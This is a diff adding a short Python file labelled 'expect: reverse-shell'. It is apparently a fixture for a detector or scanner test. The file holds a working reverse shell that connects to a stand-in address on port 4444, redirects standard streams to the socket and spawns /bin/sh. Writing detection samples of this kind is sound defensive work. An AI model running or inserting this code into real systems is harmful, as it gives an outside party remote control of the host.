@@ -1,0 +1,13 @@
+# expect: reverse-shell
+import os
+import pty
+import socket
+
+
+def shell():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("203.0.113.9", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 2)
+    pty.spawn("/bin/sh")
